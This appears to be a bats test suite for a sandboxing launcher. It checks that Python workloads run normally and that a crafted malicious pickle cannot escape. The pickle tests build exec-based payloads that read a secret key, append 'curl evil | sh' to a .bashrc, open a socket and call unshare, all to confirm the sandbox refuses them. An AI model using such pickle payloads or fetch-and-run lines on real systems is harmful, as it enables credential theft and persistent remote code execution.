# python: workers, a database, a virtual environment, a server on loopback; a prepared pickle gets nowhere.

bats_require_minimum_version 1.5.0
load ../lib/common
load ../lib/profiles

setup_file() {
	packages python3
}

setup() {
	PATH=/usr/bin:$PATH # not one of somebody's own
	residue_before
}

teardown() {
	residue_after
}

# What a report over a table of sales does: rows into a database, sums in worker processes, JSON out.
calculates() {
	cat >report.py <<'END'
import concurrent.futures, ctypes, csv, json, multiprocessing, sqlite3

def total(row):
    return row[0], sum(row[1])

if __name__ == "__main__":
    db = sqlite3.connect("sales.db")
    db.execute("create table sales (town text, amount integer)")
    db.executemany("insert into sales values (?, ?)", csv.reader(open("sales.csv")))
    db.commit()
    rows = {}
    for town, amount in db.execute("select * from sales"):
        rows.setdefault(town, []).append(amount)
    with multiprocessing.Pool(4) as pool:
        totals = dict(pool.map(total, rows.items()))
    with concurrent.futures.ProcessPoolExecutor(2, multiprocessing.get_context("spawn")) as pool:
        assert totals == dict(pool.map(total, rows.items()))
    with multiprocessing.Manager() as manager:
        shared = manager.dict(totals)
        worker = multiprocessing.Process(target=shared.update, args=({"all": sum(totals.values())},))
        worker.start()
        worker.join()
        json.dump(dict(shared), open("report.json", "w"))
    assert ctypes.CDLL(None).abs(-5) == 5
END
	for i in {1..300}; do echo "town$((i % 3)),$i"; done >sales.csv
	run launch -- python3 report.py
	assert_status 0
	[ "$(python3 -c 'import json; print(sorted(json.load(open("report.json")).items()))')" = \
		"[('all', 45150), ('town0', 15150), ('town1', 14950), ('town2', 15050)]" ]
	[ "$(stat -c %u report.json)" = "$(stat -c %u .)" ]
}

@test "python calculates with a database and worker processes" {
	each_launcher calculates
}

serves() {
	cat >serve.py <<'END'
import asyncio, ssl, urllib.request, threading, http.server
server = http.server.ThreadingHTTPServer(("127.0.0.1", 8000), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
print(urllib.request.urlopen("http://localhost:8000/hello.txt").read().decode(), end="")

async def echo(reader, writer):
    writer.write((await reader.readline()).upper())
    writer.close()

async def main():
    await asyncio.start_server(echo, "127.0.0.1", 8001)
    reader, writer = await asyncio.open_connection("127.0.0.1", 8001)
    writer.write(b"asked\n")
    print((await reader.read()).decode(), end="")
    process = await asyncio.create_subprocess_exec("sort", "-r", stdin=-1, stdout=-1)
    print((await process.communicate(b"a\nb\n"))[0].decode(), end="")

asyncio.run(main())
END
	echo hello >hello.txt
	run launch -- python3 serve.py
	assert_status 0
	assert_line hello
	assert_line ASKED
	assert_output $'b\na'
}

@test "python serves on its own loopback interface, with threads and tasks" {
	each_launcher serves
}

uses_environment() {
	launch -- python3 -m venv --without-pip .venv
	echo 'def answer(): return 42' >"$(echo .venv/lib/python3*/site-packages)/deep.py"
	run launch -- .venv/bin/python -c 'import deep, sys; print(deep.answer(), sys.prefix)'
	assert_status 0
	assert_line "42 /work/.venv"
}

@test "python makes a virtual environment, and uses what is in it" {
	each_launcher uses_environment
}

# Made outside, with scripts that name their interpreter by the path that it has there.
uses_environment_from_outside() {
	as_launcher /usr/bin/python3 -m venv --without-pip .venv
	printf '#!%s\nimport sys; print("tool of", sys.prefix)\n' "$WORK/.venv/bin/python" >.venv/bin/tool
	chmod 0755 .venv/bin/tool
	run launch -- .venv/bin/tool
	assert_status 0
	assert_output 'tool of /'
	run launch -- sh -c '. .venv/bin/activate && command -v python && tool'
	assert_status 0
	assert_output '.venv/bin/python'
	echo 'print("by its path")' >program.py
	run launch -- python3 "$WORK/program.py"
	assert_line "by its path"
}

@test "python uses a virtual environment that was made outside, and files by their path there" {
	each_launcher uses_environment_from_outside
}

# Somewhere that everybody can write, as /tmp.
works_elsewhere() {
	mkdir shared
	chown 0:0 shared
	chmod 1777 shared
	cd shared || return 1
	run launch -- python3 -c 'open("new", "w").write("mine"); print(open("new").read())'
	assert_status 0
	assert_line mine
	[ "$(stat -c %u new)" = "$([ "$LAUNCHER" = root ] && echo 0 || echo "$TEST_UID")" ]
}

@test "python works in a directory that belongs to somebody else, as far as its user may" {
	as_root_only
	each_launcher works_elsewhere
}

# Loading a pickle calls what it says.
pickle() {
	python3 - "$1" >evil.pickle <<'END'
import pickle, sys
class Evil:
    def __reduce__(self):
        return exec, (sys.argv[1],)
sys.stdout.buffer.write(pickle.dumps(Evil()))
END
}

refuses_pickle() {
	local theirs=$TMP/theirs-$LAUNCHER

	echo secret >"$theirs/key"
	pickle "open('$theirs/key').read()"
	refuses python3 -c 'import pickle; pickle.load(open("evil.pickle", "rb"))'
	assert_output "No such file or directory: '$theirs/key'"
	pickle "open('$theirs/.bashrc', 'a').write('curl evil | sh')"
	refuses python3 -c 'import pickle; pickle.load(open("evil.pickle", "rb"))'
	_listen
	pickle "import socket; socket.create_connection(('127.0.0.1', $PORT))"
	refuses python3 -c 'import pickle; pickle.load(open("evil.pickle", "rb"))'
	assert_output 'Connection refused'
	kill "$LISTENER"
	rm "$TMP/port"
	# As a user first a namespace of one's own, then whatever it allows.
	pickle "import ctypes; 0 if ctypes.CDLL(None).unshare(0x10000000) == 0 else exit(1)"
	refuses python3 -c 'import pickle; pickle.load(open("evil.pickle", "rb"))'
}

refuses_tokens() {
	echo 'TOKEN=hunter2' >.env
	refuses grep -q hunter2 .env
}

# A program can be executed where it was made, but for the places of which only Python knows.
refuses_dropping() {
	run launch -- sh -c 'cp /usr/bin/true /tmp/dropped && /tmp/dropped'
	assert_status 126
	assert_output 'Permission denied'
	run launch -- sh -c 'cp /usr/bin/true /work/dropped && /work/dropped'
	assert_status 0
}

refusals() {
	refuses_pickle
	refuses_tokens
	refuses_dropping
	refuses_secret
	refuses_processes
	refuses_setuid
	refuses_memory 512M -D memory=256M
}

@test "python lets a prepared pickle read no key, write no start file, call nobody, use no memory of others" {
	each_launcher refusals
}
